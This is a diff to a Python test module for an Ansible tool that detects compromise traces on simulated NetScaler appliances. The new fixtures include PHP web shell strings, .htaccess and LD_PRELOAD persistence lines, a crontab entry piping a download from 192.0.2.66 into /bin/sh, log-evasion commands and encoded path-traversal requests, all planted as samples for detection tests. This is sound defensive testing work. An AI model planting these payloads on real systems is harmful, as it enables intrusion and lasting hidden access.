@@ -14,7 +14,7 @@ import sys
 import tempfile
 from collections.abc import Iterator, Sequence
 from contextlib import contextmanager
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -41,6 +41,7 @@ from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watchi
 from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.watched_state import WatchedState
 
 from simulator import Simulator
+from simulator.server.python_api import ApplianceHandle
 from tests.hunt_fleet import ACCESS, BASH, ENTRIES, NS_LOG, request, shell
 from tests.marker_fleet import ATTEMPT, COMPROMISE, MESSAGES, NOTHING, REVIEW, Plant, data, file, line
 from tests.observing_page import write_part
@@ -52,6 +53,7 @@ LOGS = "/var/log/"
 READERS = ("hunt.yml", "watch.yml", "read_logs.yml")
 FIRMWARE, BEFORE = "2026-10-09T04:00:00Z", "2026-06-01T04:00:00Z"
 """The time of the firmware of a simulated appliance, and one before it."""
+FIRST_DAY = "2026-10-09T16:00:00Z"
 KERNEL = file("/flash/ns-14.1-47.48.gz", "kernel", mtime=FIRMWARE)
 
 
@@ -62,6 +64,7 @@ class Trace:
     :ivar level: at which each reader finds it that sees it; NOTHING where none may
     :ivar where: what the place of its finding has
     :ivar source: who has published it
+    :ivar watched: at which level a watch finds it, whose accepted state of the same build does not have this code; "" for the same level
     """
 
     name: str
@@ -69,6 +72,7 @@ class Trace:
     where: str
     source: str
     plant: Plant
+    watched: str = ""
 
 
 def at(path: str, level: str, source: str, text: str = "x\n", mtime: str = "") -> Trace:
@@ -91,6 +95,18 @@ def elf(path: str, level: str, source: str) -> Trace:
     return Trace(f"{path} (ELF)", level, path, source, data(path, b"\x7fELF\x02\x01"))
 
 
+def among(path: str, level: str, source: str, text: str) -> Trace:
+    """Return a file with the time of twenty others around it, which is that of the firmware."""
+    directory = path.rpartition("/")[0]
+    plants = [file(f"{directory}/f{number}.png", "png", mtime=FIRMWARE) for number in range(20)]
+
+    def plant(box: ApplianceHandle) -> None:
+        for one in (*plants, file(path, text, mtime=FIRMWARE)):
+            one(box)
+
+    return Trace(f"{path} (the time of the firmware, {text[:12].strip()!r})", level, path, source, plant)
+
+
 def packed(path: str, first: bytes) -> Trace:
     """Return a web shell behind the first bytes of a packed file, which a web server delivers as they are."""
     return Trace(f"{path} (PHP behind {first[:6]!r})", COMPROMISE, path, WAVE, data(path, first + PHP.encode()))
@@ -107,6 +123,7 @@ FEYE, M3519, NCSC, CTX, NSHUNT, WAVE, SHEET, TRUSTED, VENDOR = (
     "guide of TrustedSec, 2020",
     "the vendor's pages",
 )
+ATTACK = "MITRE ATT&CK T1070"
 PHP, SH = "<?php eval($_POST['x']); ?>\n", "#!/bin/sh\ntrue\n"
 
 
@@ -146,6 +163,16 @@ TRACES = (
     packed("/var/netscaler/gui/vpn/images/g.ico", b"\xfd7zXZ\x00"),
     packed("/var/netscaler/gui/vpn/images/h.ico", b"\x1f\x8b\x08\x00"),
     packed("/var/netscaler/gui/vpn/images/i.ico", gzip.compress(b"icon", mtime=0)),
+    among("/var/netscaler/gui/vpn/images/j.ico", COMPROMISE, WAVE, PHP),
+    among("/var/netscaler/gui/vpn/scripts/linux/k.deb", COMPROMISE, WAVE, SH),
+    among("/var/netscaler/gui/vpn/scripts/linux/l.sig", COMPROMISE, WAVE, "<?PHP @eval($_POST[1]);"),
+    replace(among("/netscaler/ns_gui/admin_ui/m.php", REVIEW, ATTACK, "<?php array_map('assert', $_REQUEST); ?>\n"), watched=COMPROMISE),
+    replace(at("/netscaler/ns_gui/vpn/n.pl", REVIEW, CTX, SH, FIRST_DAY), watched=COMPROMISE),
+    at("/var/netscaler/gui/vpn/images/o.ico", COMPROMISE, WAVE, "<?= system($_GET[1]) ?>"),
+    at("/var/netscaler/logon/LogonPoint/custom/.htaccess", COMPROMISE, NCSC, "AddHandler php5-script .css\n"),
+    at("/var/netscaler/logon/LogonPoint/custom/.user.ini", COMPROMISE, NCSC, "auto_prepend_file=/var/tmp/x\n"),
+    elf("/nsconfig/x.so", REVIEW, WAVE),
+    at("/nsconfig/httpd.conf", REVIEW, NCSC, 'LoadFile "/var/nslog/x.so"\n'),
     elf("/var/tmp/bounds", REVIEW, SHEET),
     elf("/var/tmp/backup.gz", REVIEW, SHEET),
     elf("/var/tmp/nsaaad", REVIEW, SHEET),
@@ -161,9 +188,13 @@ TRACES = (
     at("/netscaler/ns_gui/admin_ui/id009.php", COMPROMISE, CTX, PHP),
     at("/etc/libmap.conf", COMPROMISE, SHEET, "libc.so.7 /var/tmp/x.so\n"),
     at("/nsconfig/nsbefore.sh", COMPROMISE, SHEET, "export LD_PRELOAD=/var/tmp/x.so\n"),
+    at("/etc/libmap32.conf", COMPROMISE, SHEET, "libc.so.7 /var/tmp/x.so\n"),
+    at("/etc/login.conf", COMPROMISE, SHEET, "x:setenv=LD_PRELOAD=/var/x.so:\n"),
+    at("/etc/httpd.conf", COMPROMISE, NCSC, "php_value auto_prepend_file /var/x\n"),
     at("/root/.ssh/authorized_keys", REVIEW, WAVE, "ssh-ed25519 AAAA x\n"),
     at("/var/cron/tabs/operator", REVIEW, SHEET, "0 * * * * true\n"),
     at("/var/cron/tabs/root", COMPROMISE, M3519, "0 * * * * sh /var/tmp/x\n"),
+    at("/nsconfig/crontab", COMPROMISE, FEYE, "* * * * * root fetch -qo - http://192.0.2.66/x | /bin/sh\n"),
     at("/var/core/1/NSPPE-00-123.gz", REVIEW, NCSC),
     at("/var/core/1/nsaaad-00-123.gz", REVIEW, WAVE),
     # lines of the shell
@@ -176,6 +207,9 @@ TRACES = (
     command("chmod 6555 /bin/sh", COMPROMISE, WAVE),
     command("chmod -v u+s /var/tmp/x", COMPROMISE, SHEET),
     command("id", REVIEW, TRUSTED, "(null)"),
+    command("setenv LD_PRELOAD /var/x.so", COMPROMISE, SHEET),
+    command("touch -r /bin/ls /flash/ns-14.1-47.48.gz", REVIEW, ATTACK),
+    command("unset HISTFILE", REVIEW, ATTACK),
     Trace("history of a BSD shell", REVIEW, "/root/.history", SHEET, file("/root/.history", "ldapsearch -H ldaps://dc\n")),
     Trace("history of bash", REVIEW, "/root/.bash_history", SHEET, file("/root/.bash_history", "cp /bin/sh /var/tmp/x\n")),
     # requests
@@ -186,6 +220,9 @@ TRACES = (
     asked("POST /pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1", ATTEMPT, SHEET),
     asked("GET /vpn/themes/imgs/debug.php", COMPROMISE, SHEET),
     asked("GET /vpn/themes/imgs/debug.php", ATTEMPT, SHEET, 404, "/var/log/httpaccess-vpn.log"),
+    asked("GET /vpn/%74hemes/imgs/debug%2Ephp", COMPROMISE, SHEET),
+    asked("POST /logon/..;/vpn/./themes//debug.php", COMPROMISE, SHEET),
+    asked("GET /vpn/%2574hemes/debug.php", ATTEMPT, SHEET, 404, "/var/log/httpaccess-vpn.log"),
     asked("GET /wsfed/passive?wctx", ATTEMPT, SHEET, log="/var/log/httpaccess-vpn.log"),
     # lines of daemons
     Trace("armed line", ATTEMPT, NS_LOG, WAVE, line(NS_LOG, _syslog(INJECTED))),
@@ -199,6 +236,14 @@ ORDINARY = (
     asked("GET /saml/login?SAMLRequest=fZJ", NOTHING, SHEET, log="/var/log/httpaccess-vpn.log"),
     asked("GET /wsfed/passive?wa=wsignin1.0&wctx=a", NOTHING, SHEET, log="/var/log/httpaccess-vpn.log"),
     asked("GET /vpn/themes/imgs/logo.png", NOTHING, VENDOR),
+    asked("GET /vpn/%74hemes/imgs/my%20logo.png?a=%2Ephp", NOTHING, VENDOR),
+    asked("GET /logon/LogonPoint/custom/./style%2Ecss", NOTHING, VENDOR),
+    among("/var/netscaler/gui/vpn/images/logo.ico", NOTHING, VENDOR, "\x00\x00\x01\x00\n"),
+    among("/var/netscaler/gui/vpn/scripts/linux/nsgclient.deb", NOTHING, VENDOR, "!<arch>\ndebian-binary\n"),
+    replace(among("/netscaler/ns_gui/admin_ui/show.php", NOTHING, VENDOR, "<?php echo $_GET['page']; ?>\n"), watched=COMPROMISE),
+    command("touch /nsconfig/x", NOTHING, VENDOR),
+    command("history 20", NOTHING, VENDOR, tty="/dev/pts/0"),
+    at("/var/netscaler/gui/vpn/style.txt", NOTHING, VENDOR, "<?xml version='1.0'?>\n", FIRMWARE),
     command("ldapsearch -H ldaps://dc", REVIEW, SHEET, tty="/dev/pts/0"),
     command("find / -name x.php -perm -4000", NOTHING, SHEET, tty="/dev/pts/0"),
     command("grep -rF 'www.jdjd.com' /var/log", REVIEW, FEYE),
@@ -281,7 +326,7 @@ def is_wrong(trace: Trace, levels: dict[str, str]) -> bool:
     return (
         hunted != trace.level
         or read != NOTHING
-        or watched not in (trace.level, REVIEW if trace.level == NOTHING else trace.level)
+        or watched not in (trace.watched or trace.level, REVIEW if trace.level == NOTHING else trace.level)
     )
 
 
